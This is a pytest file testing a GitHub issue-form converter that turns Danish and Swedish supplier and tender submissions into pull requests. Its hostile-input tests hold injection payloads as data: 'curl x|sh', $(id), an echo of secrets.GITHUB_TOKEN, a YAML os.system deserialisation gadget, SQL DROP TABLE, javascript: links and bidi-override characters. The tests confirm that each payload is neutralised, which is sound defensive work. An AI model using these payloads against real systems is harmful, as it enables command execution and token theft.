"""The form-to-pull-request converter end to end (bro.forms.submission, scripts/form_to_pr.py and its workflow),
and the helpers the other form tests share. The generated templates, the body reader and the YAML emitter have
test files of their own (test_form_templates.py, test_form_answers.py, test_form_emitter.py), the tender's buyer
too (test_form_buyer.py).

tests/fixtures/forms/*.md are issue bodies exactly as GitHub renders the committed forms (### label, a blank
line, the answer; _No response_ for an empty answer; '- [X]' for a ticked box). The hostile-*.md bodies carry
shell, YAML and Markdown injection attempts. Each is converted in a throw-away repository and checked by the
same validator as any pull request."""
from __future__ import annotations

import difflib
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from fake_github import FakeGitHub

from bro import forms
from bro.catalog import load_catalog
from bro.forms.definitions import FormProblem
from bro.forms.replies import PR_LINK_MARKER, word_problem
from bro.forms.texts import load_texts
from bro.problems import Problem
from bro.yamlload import load_text
from helpers import FIXTURES, ROOT, TODAY, make_repo

BODIES = FIXTURES / "forms"
TEMPLATES = ROOT / ".github" / "ISSUE_TEMPLATE"
WORKFLOW = ROOT / ".github" / "workflows" / "form-to-pr.yml"


def event(body: str, number: int = 42, labels=("form",)) -> dict:
    """An `issues` event as GitHub sends it (only the parts the converter reads)."""
    return {"action": "opened", "issue": {"number": number, "title": "x", "body": body, "state": "open",
                                          "labels": [{"name": name} for name in labels]}}


def fixture(name: str) -> str:
    return (BODIES / f"{name}.md").read_text(encoding="utf-8")


def render_body(template: str, answers: dict) -> str:
    """A body as GitHub renders the committed form `template` for these answers (labels, not codes)."""
    form = yaml.safe_load((TEMPLATES / template).read_text(encoding="utf-8"))
    parts = []
    for element in form["body"]:
        if element["type"] == "markdown":
            continue
        attributes, value = element["attributes"], answers.get(element["id"])
        if element["type"] in ("input", "textarea"):
            text = value or "_No response_"
        elif element["type"] == "dropdown":
            if value is None and "default" in attributes:
                value = [attributes["options"][attributes["default"]]]
            text = ", ".join(value) if value else "_No response_"
        else:
            text = "\n".join(f"- [{'X' if o['label'] in (value or []) else ' '}] {o['label']}"
                             for o in attributes["options"])
        parts.append(f"### {attributes['label']}\n\n{text}")
    return "\n\n".join(parts)


def replace_answer(body: str, label: str, answer: str) -> str:
    """A body with one question's answer replaced, as someone editing the issue would do."""
    pattern = re.compile(rf"(^### {re.escape(label)}\n\n)(.*?)(?=\n\n### |\Z)", re.S | re.M)
    assert pattern.search(body), label
    return pattern.sub(lambda m: m.group(1) + answer, body, count=1)


def convert(tmp_path: Path, body: str, **kwargs):
    repo = make_repo(tmp_path)
    return repo, forms.submit(event(body, **kwargs), repo, today=TODAY)


def data_of(repo: Path, path: str) -> dict:
    doc = load_text((repo / path).read_text(encoding="utf-8"), path)
    assert doc.problems == []
    return doc.data


def tree(repo: Path) -> dict[str, bytes]:
    return {p.relative_to(repo).as_posix(): p.read_bytes() for p in sorted((repo / "data").rglob("*")) if p.is_file()}


# ---------------------------------------------------------------------------------------- end to end: new files

def test_new_danish_supplier(tmp_path):
    repo, result = convert(tmp_path, fixture("ny-leverandor"), number=7)
    assert result.summary() == {"ok": True, "kind": "supplier", "lang": "da",
                                "paths": ["data/suppliers/koekkenhaven-nord-aps.yml"], "branch": "form/issue-7",
                                "title": "Ny leverandør: koekkenhaven-nord-aps", "pr": True}
    text = (repo / result.path).read_text(encoding="utf-8")
    assert text.startswith("# yaml-language-server: $schema=../../schemas/supplier.schema.json\n")
    data = data_of(repo, result.path)
    assert data == {
        "name": "Køkkenhaven Nord ApS", "country": "DK", "org_number": "31234565", "legal_form": "dk_aps",
        "website": "https://www.koekkenhaven-nord.example.dk", "founded": 2016,
        "summary": {"da": "Frokostordninger, mødeforplejning og catering til kommuner i Nordjylland, lavet af "
                          "unge og voksne på vej ind på arbejdsmarkedet."},
        "description": {"da": "Vi laver mad fra bunden med grønt fra egne bede og lokale avlere. Vi leverer "
                              "**frokost til 40–400 personer** og kan klare særlige hensyn som glutenfri og halal."
                              "\n\nSe menuerne på [vores side](https://koekkenhaven-nord.example.dk/menu)."},
        "categories": ["catering", "events_culture"], "delivery_area": ["DK-851", "DK-810", "DK-849"],
        "address": {"street": "Havnegade 12", "postcode": "9000", "city": "Aalborg", "municipality": "DK-851"},
        "target_groups": ["long_term_unemployed", "young_people_neet"],
        "employees": {"total": 14, "from_target_groups": 6},
        "social_purpose": {"da": "Hos os lærer unge og voksne et fag i et roligt køkken med faste rammer. Mange går "
                                 "videre til job eller uddannelse efter et til to år."},
        "registrations": [{"type": "rsv"}], "reserved_contracts": {"eligible": True, "basis": "art20"},
        "contacts": [{"name": "Køkkenet", "role": {"da": "Bestillinger"},
                      "email": "bestil@koekkenhaven-nord.example.dk", "phone": "+45 98 12 34 56",
                      "publish_basis": "legitimate_interest"}],
        "last_verified": "2026-11-23"}
    schema_order = list(json.loads((ROOT / "schemas" / "supplier.schema.json").read_text())["properties"])
    assert list(data) == sorted(data, key=schema_order.index)
    assert [p for p in load_catalog(repo, today=TODAY).errors] == []
    assert result.reply.startswith("Tak! Vi har lavet et forslag") and PR_LINK_MARKER in result.reply
    assert "**Kort beskrivelse på dansk**: Teksten findes kun på dansk" in result.reply
    assert "Closes #7" in result.pr_body and "`data/suppliers/koekkenhaven-nord-aps.yml`" in result.pr_body


def test_new_swedish_supplier_in_both_languages(tmp_path):
    repo, result = convert(tmp_path, fixture("ny-leverantor"))
    assert (result.ok, result.lang, result.title) == (True, "sv", "Ny leverantör: ekerfabriken-ekonomisk-forening")
    data = data_of(repo, result.path)
    assert set(data["summary"]) == {"da", "sv"} and data["org_number"] == "769600-1234"
    assert data["registrations"] == [{"type": "skoopi"},
                                     {"type": "other", "url": "https://intyg.example.se/ekerfabriken"}]
    assert data["delivery_area"] == ["SE-14"] and data["reserved_contracts"] == {"eligible": False}
    assert data["contacts"][0]["publish_basis"] == "consent"
    assert result.reply.startswith("Tack! Vi har gjort ett förslag") and "Tak" not in result.reply
    assert "**Kort beskrivning på svenska**" not in result.reply  # both languages given: no warning


def test_new_tenders_in_both_languages(tmp_path):
    repo, result = convert(tmp_path / "da", fixture("nyt-udbud"))
    assert result.path == "data/tenders/silkeborg-vinduespudsning-paa-23-daginstitutioner.yml"
    data = data_of(repo, result.path)
    assert data["estimated_value"] == {"amount": 1200000, "currency": "DKK"}
    assert data["contract_period"] == {"start": "2027-05-01", "end": "2029-04-30"}
    assert data["buyer"] == {"name": "Silkeborg Kommune", "org_number": "31234573", "country": "DK",
                             "municipality": "DK-740"}
    assert data["contact"]["role"] == {"da": "Funktionspostkasse"} and data["cpv"] == ["90911300-9"]
    repo, result = convert(tmp_path / "sv", fixture("ny-upphandling"))
    data = data_of(repo, result.path)
    assert result.title == "Nytt inköp: lunds-fruktkorgar-till-forskolor"
    assert data["title"] == {"da": "Frugtkurve til børnehaver", "sv": "Fruktkorgar till förskolor"}
    assert data["estimated_value"] == {"amount": 480000, "currency": "SEK"}
    assert (data["procedure"], data["reserved"], data["status"]) == ("direct_award", "art20", "planned")


def test_a_taken_slug_gets_a_number(tmp_path):
    body = replace_answer(fixture("ny-leverandor"), "Virksomhedens navn", "Supplier Complete")
    repo, result = convert(tmp_path, body)
    assert result.path is not None and result.path.endswith("/supplier-complete-2.yml")


# ------------------------------------------------------------------------------------ end to end: edited files

def changed_lines(before: str, after: str) -> list[str]:
    return [line for line in difflib.ndiff(before.splitlines(), after.splitlines()) if line[:2] in ("- ", "+ ")]


def test_change_profile_edits_only_the_filled_fields(tmp_path):
    repo = make_repo(tmp_path)
    path = repo / "data" / "suppliers" / "supplier-complete.yml"
    before = path.read_text(encoding="utf-8")
    result = forms.submit(event(fixture("ret-profil")), repo, today=TODAY)
    assert (result.ok, result.kind, result.title) == (True, "change", "Ret profil: supplier-complete")
    after = path.read_text(encoding="utf-8")
    assert sorted(changed_lines(before, after)) == sorted([
        "- website: https://groen-genstart.example.org", "+ website: https://groen-genstart.example.org/ny",
        "- delivery_area: [DK-751, DK-746, DK04]", "+ delivery_area: [DK-751, DK-461]",
        "-   total: 14", "+   total: 20",
        '-     phone: "+45 12 34 56 78"', '+     phone: "+45 87 65 43 21"',
        "- last_verified: 2026-09-15", "+ last_verified: 2026-11-23"])
    assert "Vi flytter til nye lokaler i Viby J" in result.pr_body and "### Besked fra indsenderen" in result.pr_body


def test_change_keeps_values_yaml_would_misread(tmp_path):
    repo = make_repo(tmp_path)
    body = render_body("andra-profil.yml", {"profile": "yaml-unquoted-values", "website": "https://nej.example.se",
                                            "contact_role": "Ägare"})
    before = data_of(repo, "data/suppliers/yaml-unquoted-values.yml")
    result = forms.submit(event(body), repo, today=TODAY)
    assert result.ok, result.reply
    after = data_of(repo, "data/suppliers/yaml-unquoted-values.yml")
    assert after.pop("website") == "https://nej.example.se"
    assert after["contacts"][0].pop("role") == {"sv": "Ägare"}
    assert after == before
    text = (repo / "data" / "suppliers" / "yaml-unquoted-values.yml").read_text(encoding="utf-8")
    assert "phone: +4512345678" in text and "name: NO" in text and "# Values YAML 1.1" in text


def test_change_with_only_a_message_makes_no_pull_request(tmp_path):
    repo = make_repo(tmp_path)
    before = tree(repo)
    body = render_body("ret-profil.yml", {"profile": "supplier-complete", "other_changes": "Vi har fået nyt logo."})
    result = forms.submit(event(body), repo, today=TODAY)
    assert (result.ok, result.pr) == (True, False)
    assert result.reply == load_texts("da")["reply"]["note_only"] and tree(repo) == before


def test_change_with_nothing_filled_in_says_so(tmp_path):
    repo, result = convert(tmp_path, render_body("ret-profil.yml", {"profile": "supplier-complete"}))
    assert not result.ok and [p.code for p in result.problems] == ["nothing_to_change"]
    assert load_texts("da")["problems"]["nothing_to_change"] in result.reply


def test_change_of_an_unknown_profile_suggests_the_closest(tmp_path):
    repo, result = convert(tmp_path, render_body("ret-profil.yml", {"profile": "supplier-complet", "name": "X Y"}))
    assert not result.ok
    assert "**Profilen, der skal rettes**: Vi kan ikke finde 'supplier-complet' på Bro. Mente du " \
           "'supplier-complete'?" in result.reply


def test_interest_adds_the_supplier_in_the_lists_own_style(tmp_path):
    repo = make_repo(tmp_path)
    result = forms.submit(event(fixture("interesse")), repo, today=TODAY)
    assert (result.ok, result.title) == (True, "Interesse: tender-complete")
    text = (repo / "data" / "tenders" / "tender-complete.yml").read_text(encoding="utf-8")
    assert "interested: [supplier-complete, supplier-minimal]\n" in text
    assert "Generelt" not in result.reply  # older notes in the file are for the editor, not the submitter
    assert "Teksten findes kun på dansk" in result.pr_body
    repo = make_repo(tmp_path / "sv")
    result = forms.submit(event(fixture("intresse")), repo, today=TODAY)
    assert data_of(repo, "data/tenders/tender-complete.yml")["interested"] == ["supplier-complete",
                                                                              "yaml-unquoted-values"]


def test_interest_twice_or_for_an_unknown_supplier_is_explained(tmp_path):
    body = replace_answer(fixture("interesse"), "Jeres profil på Bro", "supplier-complete")
    repo, result = convert(tmp_path, body)
    assert not result.ok and load_texts("da")["problems"]["already_interested"] in result.reply
    body = replace_answer(fixture("intresse"), "Er profil på Bro", "kafe-trappsteget")
    repo, result = convert(tmp_path / "2", body)
    assert not result.ok and "**Er profil på Bro**: Vi hittar inte 'kafe-trappsteget' på Bro." in result.reply
    assert tree(repo) == tree(make_repo(tmp_path / "3"))


@pytest.mark.parametrize("name", ["fjern-personoplysninger", "ta-bort-personuppgifter"])
def test_a_removal_request_is_never_read_from_an_issue(tmp_path, name):
    """The removal form is gone (a request goes to the editors by e-mail only): a body written with the old form is
    no form the robot knows, so nothing is written and no pull request repeats it in public."""
    repo = make_repo(tmp_path)
    before = tree(repo)
    result = forms.submit(event(fixture(name), labels=("form", "removal")), repo, today=TODAY)
    assert (result.ok, result.pr, result.kind) == (False, False, None) and tree(repo) == before
    assert [p.code for p in result.problems] == ["form_unknown"]


# --------------------------------------------------------------------------------------------- hostile bodies

HOSTILE_SHELL = {
    "name": '"; curl x|sh #',
    "summary": "$(id) og ${HOME} og `whoami`; echo ${{ secrets.GITHUB_TOKEN }}",
    "description": "name: Overtaget\ncountry: SE\n---\n!!python/object/apply:os.system [\"curl x|sh\"]\n"
                   "&a [*a, *a]\n\"quoted\" 'single' key: value # comment\n- liste\n${{ github.token }}",
    "contact": "`id`", "city": "'; DROP TABLE suppliers; --",
}


def test_shell_and_yaml_injection_stays_plain_text(tmp_path):
    repo, result = convert(tmp_path, fixture("hostile-shell"), number=9)
    assert result.ok, result.reply
    data = data_of(repo, result.path)
    assert data["name"] == HOSTILE_SHELL["name"]
    assert data["summary"] == {"da": HOSTILE_SHELL["summary"]}
    assert data["description"] == {"da": HOSTILE_SHELL["description"]}
    assert data["contacts"][0]["name"] == HOSTILE_SHELL["contact"]
    assert data["address"]["city"] == HOSTILE_SHELL["city"] and data["country"] == "DK"
    assert yaml.safe_load((repo / result.path).read_text(encoding="utf-8"))["name"] == HOSTILE_SHELL["name"]
    assert result.branch == "form/issue-9" and result.title == "Ny leverandør: curl-x-sh"
    assert result.path == "data/suppliers/curl-x-sh.yml"


@pytest.mark.parametrize("name", ["hostile-shell", "hostile-heading", "hostile-newline", "hostile-html"])
def test_no_user_text_reaches_branch_title_or_path(tmp_path, name):
    repo, result = convert(tmp_path, fixture(name), number=31)
    assert result.branch == "form/issue-31"
    assert re.fullmatch(r"(\w[\w ]*: [a-z0-9-]+)?", result.title)
    assert result.path is None or re.fullmatch(r"data/(suppliers|tenders)/[a-z0-9-]+\.yml", result.path)
    json.dumps(result.summary())


def test_a_heading_inside_an_answer_is_refused(tmp_path):
    repo, result = convert(tmp_path, fixture("hostile-heading"))
    assert not result.ok and [p.code for p in result.problems] == ["heading_twice"]
    assert "Overskriften 'CVR- eller organisationsnummer' står der mere end én gang." in result.reply


def test_a_line_break_in_a_one_line_answer_is_refused(tmp_path):
    repo, result = convert(tmp_path, fixture("hostile-newline"))
    assert not result.ok and "**Virksomhedens navn**: Svaret skal stå på én linje." in result.reply
    assert tree(repo) == tree(make_repo(tmp_path / "clean"))


def test_html_and_script_links_are_refused_with_the_validators_words(tmp_path):
    repo, result = convert(tmp_path, fixture("hostile-html"))
    assert not result.ok
    assert "- **Længere beskrivelse på dansk**: Teksten indeholder HTML (&lt;script&gt;)." in result.reply
    assert "Linket 'javascript:alert(1)' er ikke tilladt." in result.reply
    assert not (repo / "data" / "suppliers" / "koekkenhaven-nord-aps.yml").exists()


@pytest.mark.parametrize("label,limit", [("Længere beskrivelse på dansk", 10000), ("Virksomhedens navn", 300)])
def test_a_100_kb_answer_is_refused_before_anything_is_written(tmp_path, label, limit):
    body = replace_answer(fixture("ny-leverandor"), label, "Æ" * 100_000)
    repo, result = convert(tmp_path, body)
    assert not result.ok and result.path is None
    assert f"- **{label}**: Svaret er for langt: 100000 tegn, højst {limit}." in result.reply
    assert tree(repo) == tree(make_repo(tmp_path / "clean"))


def test_an_answer_that_is_not_on_the_list_is_refused(tmp_path):
    body = replace_answer(fixture("ny-leverandor"), "Hvad sælger I?", "Mad og forplejning, Narnia-rejser")
    repo, result = convert(tmp_path, body)
    assert "**Hvad sælger I?**: 'Narnia-rejser' er ikke et af svarene på listen." in result.reply
    body = replace_answer(fixture("ny-leverandor"), "Land", "danmark")  # edited by hand: case does not matter
    body = replace_answer(body, "Antal ansatte i alt", "0")
    body = replace_answer(body, "Heraf ansatte fra målgrupperne", "0")
    body = replace_answer(body, "Opfylder I betingelserne for reserverede kontrakter?", "Nej")
    repo, result = convert(tmp_path / "2", body)
    assert result.ok, result.reply
    data = data_of(repo, result.path)
    assert data["country"] == "DK" and data["employees"] == {"total": 0, "from_target_groups": 0}


def test_an_invalid_cvr_number_is_explained_and_nothing_is_written(tmp_path):
    body = replace_answer(fixture("ny-leverandor"), "CVR- eller organisationsnummer", "31234566")
    repo, result = convert(tmp_path, body)
    assert not result.ok
    assert "- **CVR- eller organisationsnummer**: '31234566' er ikke et gyldigt dansk CVR-nummer" in result.reply
    assert "Sådan retter du" in result.reply and tree(repo) == tree(make_repo(tmp_path / "clean"))


def test_control_characters_and_empty_required_answers(tmp_path):
    body = replace_answer(fixture("ny-leverandor"), "Virksomhedens navn", "Køkken\x1b[31mhaven")
    body = replace_answer(body, "Kort beskrivelse på dansk", "_No response_")
    repo, result = convert(tmp_path, body)
    assert [p.code for p in result.problems] == ["bad_characters", "required"]
    assert "**Kort beskrivelse på dansk**: Skal udfyldes." in result.reply


def test_mentions_and_markdown_in_answers_are_made_harmless():
    problem = FormProblem("area", "unknown_area", {"value": "@octocat se #12 <img src=x> [a](b)"})
    assert word_problem("da", problem) == \
        "Vi kender ikke kommunen '@\u200boctocat se #\u200b12 &lt;img src=x&gt; \\[a\\](b)'. Skriv kommunens navn, " \
        "fx Aarhus eller Göteborg."
    long = word_problem("da", FormProblem("area", "unknown_area", {"value": "x" * 500}))
    assert "'" + "x" * 199 + "…'" in long


def test_an_issue_that_is_no_form_is_answered_in_both_languages(tmp_path):
    repo, result = convert(tmp_path, "Hej! Kan I hjælpe os?\n\n### Noget\n\ntekst")
    assert (result.ok, result.kind, result.lang) == (False, None, None)
    assert load_texts("da")["problems"]["form_unknown"] in result.reply
    assert load_texts("sv")["problems"]["form_unknown"] in result.reply


def test_a_deleted_heading_is_named(tmp_path):
    body = fixture("interesse").replace("### Indkøbet\n\n", "")
    repo, result = convert(tmp_path, body, labels=("form", "lang:da"))
    assert not result.ok and "Overskriften 'Indkøbet' mangler." in result.reply


# ------------------------------------------------------------------------------------------------ the script

def run_script(*args, env=None):
    return subprocess.run([sys.executable, ROOT / "scripts" / "form_to_pr.py", *map(str, args)],
                          capture_output=True, text=True, env={**os.environ, **(env or {})})


def test_script_writes_reply_body_and_result_then_fills_the_link(tmp_path):
    repo = make_repo(tmp_path)
    event_file, out, outputs = tmp_path / "event.json", tmp_path / "out", tmp_path / "github_output"
    event_file.write_text(json.dumps(event(fixture("ny-upphandling"), number=12)), encoding="utf-8")
    done = run_script("--event", event_file, "--root", repo, "--out", out, "--today", "2026-11-23",
                      env={"GITHUB_OUTPUT": str(outputs)})
    assert done.returncode == 0, done.stderr
    result = json.loads((out / "result.json").read_text(encoding="utf-8"))
    assert result == {"ok": True, "kind": "tender", "lang": "sv",
                      "paths": ["data/tenders/lunds-fruktkorgar-till-forskolor.yml", "data/buyers/lunds-kommun.yml"],
                      "branch": "form/issue-12",
                      "title": "Nytt inköp: lunds-fruktkorgar-till-forskolor", "pr": True}
    assert outputs.read_text() == "ok=true\npr=true\n"
    assert all((repo / path).exists() for path in result["paths"])
    assert "Closes #12" in (out / "pr-body.md").read_text(encoding="utf-8")
    assert run_script("--out", out, "--get", "paths").stdout.splitlines() == result["paths"]
    url = "https://github.com/bro-socialt-indkob/bro/pull/77"
    assert run_script("--out", out, "--pr-url", url).returncode == 0
    reply = (out / "reply.md").read_text(encoding="utf-8")
    assert f"Här är förslaget: {url}" in reply and PR_LINK_MARKER not in reply
    assert run_script("--out", out, "--pr-url", "https://evil.example/$(id)").returncode != 0


def test_script_reports_problems_without_touching_the_tree(tmp_path):
    repo = make_repo(tmp_path)
    before = tree(repo)
    event_file, out = tmp_path / "event.json", tmp_path / "out"
    event_file.write_text(json.dumps(event(fixture("hostile-newline"))), encoding="utf-8")
    done = run_script("--event", event_file, "--root", repo, "--out", out, "--today", "2026-11-23")
    assert done.returncode == 0, done.stderr
    assert json.loads((out / "result.json").read_text())["ok"] is False and tree(repo) == before
    assert "Svaret skal stå på én linje." in (out / "reply.md").read_text(encoding="utf-8")


def test_failure_answer_follows_the_issues_language(tmp_path):
    event_file, out = tmp_path / "event.json", tmp_path / "out"
    event_file.write_text(json.dumps(event("", labels=("form", "lang:sv"))), encoding="utf-8")
    assert run_script("--event", event_file, "--out", out, "--failure").returncode == 0
    assert (out / "reply.md").read_text(encoding="utf-8") == load_texts("sv")["reply"]["failure"] + "\n"
    both = forms.word_failure(event("", labels=("form",)))
    assert load_texts("da")["reply"]["failure"] in both and load_texts("sv")["reply"]["failure"] in both


# ---------------------------------------------------------------------------------------------- the workflow

def test_workflow_keeps_issue_text_out_of_the_shell():
    text = WORKFLOW.read_text(encoding="utf-8")
    flow = yaml.safe_load(text)
    trigger = flow.get("on", flow.get(True))
    assert trigger == {"issues": {"types": ["opened", "edited"]}} and "pull_request_target" not in text
    assert flow["permissions"] == {}
    job = flow["jobs"]["convert"]
    assert job["permissions"] == {"contents": "write", "pull-requests": "write", "issues": "write"}
    assert "contains(github.event.issue.labels.*.name, 'form')" in job["if"]
    for step in job["steps"]:
        assert "${{" not in step.get("run", ""), step.get("name")
        if "uses" in step:
            assert re.fullmatch(r"[\w.-]+/[\w.-]+@[0-9a-f]{40}", step["uses"]), step["uses"]
            assert step.get("with", {}).get("persist-credentials", False) is False
    pins = re.findall(r"uses: \S+@[0-9a-f]{40} # v\d+\.\d+\.\d+$", text, re.M)
    assert len(pins) == sum("uses" in step for step in job["steps"]) == 2
    convert_step = next(step for step in job["steps"] if step.get("id") == "convert")
    assert "env" not in convert_step and '--event "$GITHUB_EVENT_PATH"' in convert_step["run"]


def test_workflow_passes_zizmor():
    zizmor = Path(sys.executable).parent / "zizmor"
    assert zizmor.exists(), "zizmor is pinned in requirements.txt: run make setup"
    done = subprocess.run([zizmor, "--offline", WORKFLOW], capture_output=True, text=True)
    assert done.returncode == 0 and "No findings" in done.stdout + done.stderr, done.stdout + done.stderr


FAKE_GH = """#!/bin/sh
# A stand-in for the GitHub CLI (git's credentials, the answer on the issue): logs every call. Pull requests go
# through the REST API, to the fake GitHub (tests/fake_github.py).
printf '%s\\n' "$*" >> "$FAKE_GH_DIR/calls"
case "$1 $2" in
  "issue comment") cp "$5" "$FAKE_GH_DIR/comment-$(wc -l < "$FAKE_GH_DIR/calls")" ;;
esac
"""


def _step(name: str) -> str:
    steps = yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))["jobs"]["convert"]["steps"]
    return next(step["run"] for step in steps if step.get("name", "").startswith(name))


def _git(cwd: Path, *args: str) -> str:
    return subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, text=True).stdout


@pytest.mark.skipif(shutil.which("git") is None, reason="needs git")
def test_workflow_steps_push_a_branch_open_the_pull_request_and_answer(tmp_path):
    """The workflow's own shell steps, run against a local remote, a stand-in `gh` and the fake GitHub API, with
    two forks' pull requests from a branch of the same name (one from the same organisation) already open."""
    with FakeGitHub() as api:
        forks = [api.state.add_pull(3, branch="form/issue-3", head_repo="attacker/bro", title="fork", body="x"),
                 api.state.add_pull(4, branch="form/issue-3", head_repo="bro-socialt-indkob/bro-kopi", title="fork")]
        _run_workflow_steps(tmp_path, api)
        assert [p for p in api.state.pulls.values() if p["head"]["repo"]["full_name"] != api.repo] == forks
        assert (forks[0]["title"], forks[0]["body"], forks[1]["title"]) == ("fork", "x", "fork")
        assert not [call for call in api.writes() if re.search(r"/pulls/[34]$", call[1])]


def _run_workflow_steps(tmp_path: Path, api: FakeGitHub) -> None:
    """Run the workflow's steps for a new supplier, an edit of the issue and a body with problems."""
    repo, fake, remote = make_repo(tmp_path), tmp_path / "gh", tmp_path / "remote.git"
    (fake / "bin").mkdir(parents=True)
    (fake / "bin" / "gh").write_text(FAKE_GH)
    (fake / "bin" / "gh").chmod(0o755)
    (repo / ".venv" / "bin").mkdir(parents=True)
    (repo / ".venv" / "bin" / "python").write_text(f'#!/bin/sh\nexec "{sys.executable}" "$@"\n')
    (repo / ".venv" / "bin" / "python").chmod(0o755)
    shutil.copytree(ROOT / "scripts", repo / "scripts")
    _git(tmp_path, "init", "-q", "--bare", str(remote))
    _git(repo, "init", "-q", "-b", "main")
    (repo / ".git" / "info" / "exclude").write_text(".venv\nscripts\n")
    _git(repo, "add", "-A")
    _git(repo, "-c", "user.name=t", "-c", "user.email=t@example.org", "commit", "-qm", "start")
    _git(repo, "remote", "add", "origin", str(remote))
    _git(repo, "push", "-q", "origin", "main")
    env = {**os.environ, "PATH": f"{fake / 'bin'}{os.pathsep}{os.environ['PATH']}", "FAKE_GH_DIR": str(fake),
           "RUNNER_TEMP": str(tmp_path / "runner"), "GITHUB_EVENT_PATH": str(tmp_path / "event.json"),
           "GITHUB_OUTPUT": str(tmp_path / "outputs"), "ISSUE_NUMBER": "3", "BASE_BRANCH": "main",
           "GH_TOKEN": "unused", "GH_REPO": "bro-socialt-indkob/bro", **api.env}

    def run(body: str) -> None:
        _git(repo, "checkout", "-q", "main")
        (tmp_path / "event.json").write_text(json.dumps(event(body, number=3)), encoding="utf-8")
        (tmp_path / "outputs").write_text("")
        for name in ("Read the form", "Push the branch", "Answer on the issue"):
            if name == "Push the branch" and "pr=true" not in (tmp_path / "outputs").read_text():
                continue  # the step's `if: steps.convert.outputs.pr == 'true'`
            done = subprocess.run(["bash", "-eo", "pipefail", "-c", _step(name)], cwd=repo, env=env,
                                  capture_output=True, text=True)
            assert done.returncode == 0, (name, done.stdout, done.stderr)

    run(fixture("ny-leverandor"))
    assert _git(remote, "log", "--format=%an|%s|%b", "form/issue-3").split("\n")[0] == \
        "github-actions[bot]|Ny leverandør: koekkenhaven-nord-aps|Closes #3"
    assert _git(remote, "show", "--name-only", "--format=", "form/issue-3").split() == \
        ["data/suppliers/koekkenhaven-nord-aps.yml"]
    created = [body for method, path, body in api.writes() if (method, path) == ("POST", f"/repos/{api.repo}/pulls")]
    assert [(c["head"], c["base"], c["title"]) for c in created] == [
        ("form/issue-3", "main", "Ny leverandør: koekkenhaven-nord-aps")]
    own = next(p for p in api.state.pulls.values() if p["head"]["repo"]["full_name"] == api.repo)
    assert own["number"] == 5 and "Closes #3" in own["body"]
    calls = (fake / "calls").read_text(encoding="utf-8").splitlines()
    comment = (fake / f"comment-{len(calls)}").read_text(encoding="utf-8")
    assert "Her er forslaget: https://github.com/bro-socialt-indkob/bro/pull/5" in comment
    assert PR_LINK_MARKER not in comment
    # The submitter edits the issue: the branch is rebuilt and the same pull request updated.
    run(replace_answer(fixture("ny-leverandor"), "Antal ansatte i alt", "15"))
    assert [(m, path) for m, path, _ in api.writes()][-1] == ("PATCH", f"/repos/{api.repo}/pulls/5")
    assert sum(m == "POST" and path.endswith("/pulls") for m, path, _ in api.writes()) == 1
    text = _git(remote, "show", "form/issue-3:data/suppliers/koekkenhaven-nord-aps.yml")
    assert "total: 15" in text and _git(remote, "rev-list", "--count", "main..form/issue-3").strip() == "1"
    # A body with problems: no push, only an answer.
    before = _git(remote, "rev-parse", "form/issue-3")
    writes, earlier = len(api.writes()), len((fake / "calls").read_text(encoding="utf-8").splitlines())
    run(fixture("hostile-newline"))
    assert _git(remote, "rev-parse", "form/issue-3") == before and len(api.writes()) == writes
    calls = (fake / "calls").read_text(encoding="utf-8").splitlines()
    assert len(calls) == earlier + 1 and calls[-1].startswith("issue comment 3")  # no push, only the answer
    assert "Svaret skal stå på én linje." in (fake / f"comment-{len(calls)}").read_text(encoding="utf-8")


# ------------------------------------------------------------------------------------------ hidden characters

def test_the_reply_shows_a_right_to_left_override_in_an_answer(tmp_path):
    """A submitter's answer quoted back in the reply shows its hidden characters: 'Aal⟨U+202E⟩borg', not a
    name that looks clean (or reversed) on GitHub."""
    body = replace_answer(fixture("ny-leverandor"), "Kommuner, I leverer i", "Aal\u202eborg\u200b")
    repo, result = convert(tmp_path, body)
    assert not result.ok
    assert "Vi kender ikke kommunen 'Aal⟨U+202E⟩borg⟨U+200B⟩'" in result.reply
    assert "\u202e" not in result.reply


def test_the_pull_request_body_shows_hidden_characters_in_the_message(tmp_path):
    body = replace_answer(fixture("ret-profil"), "Andet, der skal rettes",
                          "Nyt navn: Grøn\u202eGenstart\u00ad ApS\U000e0041 @bro-socialt-indkob/redaktion")
    repo, result = convert(tmp_path, body)
    assert result.ok, result.reply
    assert "Nyt navn: Grøn⟨U+202E⟩Genstart⟨U+00AD⟩ ApS⟨U+E0041⟩ @bro-socialt-indkob/redaktion" in result.pr_body
    assert not {"\u202e", "\u00ad", "\U000e0041"} & set(result.pr_body)


def test_listed_values_in_a_validator_problem_are_made_harmless_too():
    found = Problem("data/suppliers/x.yml", 3, 1, ("x",), "schema.unknown_key",
                    {"key": "@team\u202e", "allowed": ["[a](https://evil.example)", "#12"]})
    text = word_problem("da", FormProblem("name", "validator", {"problem": found}))
    assert "'@\u200bteam⟨U+202E⟩'" in text and "\\[a\\](https\u200b://evil.example), \\#\u200b12" in text
